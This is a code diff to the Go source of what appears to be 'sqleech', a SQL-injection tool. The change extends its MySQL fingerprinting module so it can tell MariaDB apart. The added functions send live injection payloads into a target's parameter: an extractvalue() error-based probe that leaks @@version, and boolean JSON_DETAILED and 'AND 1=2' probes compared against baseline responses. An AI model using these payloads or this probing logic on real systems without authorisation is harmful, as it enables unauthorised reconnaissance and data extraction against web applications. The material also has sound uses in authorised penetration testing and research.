@@ -2,13 +2,22 @@ package fingerprint
 
 import (
 	"context"
+	"regexp"
+	"strings"
 
+	"github.com/0x6d61/sqleech/internal/dbms"
 	"github.com/0x6d61/sqleech/internal/detector"
 )
 
 // MySQLFingerprinter identifies MySQL backends through behavioural probing.
+// Once a MySQL-family backend is identified it also tells MariaDB apart,
+// reporting it under its own name.
 type MySQLFingerprinter struct{}
 
+// xpathBannerPattern captures the value an extractvalue() probe leaks in an
+// "XPATH syntax error: '~...'" message.
+var xpathBannerPattern = regexp.MustCompile(`XPATH syntax error: '~([^'<]+)'`)
+
 // DBMS returns the name of the target DBMS.
 func (m *MySQLFingerprinter) DBMS() string {
 	return "MySQL"
@@ -25,6 +34,11 @@ func (m *MySQLFingerprinter) DBMS() string {
 //   - SLEEP(0) accepted:     +0.1
 //   - @@version works:       +0.1
 //   - CONV test works:       +0.1
+//
+// An identified backend is reported as MariaDB when the quote probe shows a
+// MariaDB error signature, when the version banner leaked through an
+// extractvalue() error names MariaDB, or, with neither available, when the
+// MariaDB-only JSON_DETAILED function evaluates without error.
 func (m *MySQLFingerprinter) Fingerprint(ctx context.Context, req *FingerprintRequest) (*FingerprintResult, error) {
 	result := &FingerprintResult{
 		DBMS: "MySQL",
@@ -51,7 +65,7 @@ func (m *MySQLFingerprinter) Fingerprint(ctx context.Context, req *FingerprintRe
 		return nil, err
 	}
 
-	if responseSimilar(req.Baseline, sleepResp) {
+	if responseSimilar(req, sleepResp) {
 		confidence += 0.1
 	}
 
@@ -62,7 +76,7 @@ func (m *MySQLFingerprinter) Fingerprint(ctx context.Context, req *FingerprintRe
 		return nil, err
 	}
 
-	if responseSimilar(req.Baseline, versionResp) {
+	if responseSimilar(req, versionResp) {
 		confidence += 0.1
 	}
 
@@ -73,7 +87,7 @@ func (m *MySQLFingerprinter) Fingerprint(ctx context.Context, req *FingerprintRe
 		return nil, err
 	}
 
-	if responseSimilar(req.Baseline, convResp) {
+	if responseSimilar(req, convResp) {
 		confidence += 0.1
 	}
 
@@ -84,6 +98,69 @@ func (m *MySQLFingerprinter) Fingerprint(ctx context.Context, req *FingerprintRe
 
 	result.Confidence = confidence
 	result.Identified = confidence >= 0.7
+	if !result.Identified {
+		return result, nil
+	}
+
+	// --- MariaDB: error signatures, then the version banner, then an
+	// active probe when the target shows no errors ---
+	if matches, ok := sqlErrors["MariaDB"]; ok && len(matches) > 0 {
+		result.DBMS = "MariaDB"
+	}
+	if err := m.probeBanner(ctx, req, result); err != nil {
+		return nil, err
+	}
+	if result.Banner == "" && result.DBMS != "MariaDB" {
+		mariadb, err := m.probeMariaDB(ctx, req)
+		if err != nil {
+			return nil, err
+		}
+		if mariadb {
+			result.DBMS = "MariaDB"
+		}
+	}
 
 	return result, nil
 }
+
+// probeBanner leaks @@version through an extractvalue() error and, when the
+// target reflects it, sets the banner, version and MySQL-family name.
+func (m *MySQLFingerprinter) probeBanner(ctx context.Context, req *FingerprintRequest, result *FingerprintResult) error {
+	payload := req.Parameter.Value + " AND extractvalue(1,concat(0x7e,@@version))-- -"
+	resp, err := sendProbe(ctx, req.Client, req.Target, req.Parameter, payload)
+	if err != nil {
+		return err
+	}
+	match := xpathBannerPattern.FindStringSubmatch(string(resp.Body))
+	if match == nil {
+		return nil
+	}
+	banner := strings.TrimSuffix(match[1], "~")
+	name, version := dbms.ParseMySQLBanner(banner)
+	if name == "" {
+		return nil
+	}
+	result.DBMS = name
+	result.Version = version
+	result.Banner = banner
+	return nil
+}
+
+// probeMariaDB evaluates JSON_DETAILED, a function only MariaDB has, in an
+// always-true condition. MariaDB leaves the page unchanged while MySQL
+// errors out; the always-false control rules out a page that ignores the
+// condition altogether.
+func (m *MySQLFingerprinter) probeMariaDB(ctx context.Context, req *FingerprintRequest) (bool, error) {
+	probe, err := sendProbe(ctx, req.Client, req.Target, req.Parameter, req.Parameter.Value+" AND JSON_DETAILED('[]') IS NOT NULL-- -")
+	if err != nil {
+		return false, err
+	}
+	if !responseEqual(req.Baseline, probe) {
+		return false, nil
+	}
+	control, err := sendProbe(ctx, req.Client, req.Target, req.Parameter, req.Parameter.Value+" AND 1=2-- -")
+	if err != nil {
+		return false, err
+	}
+	return !responseEqual(req.Baseline, control), nil
+}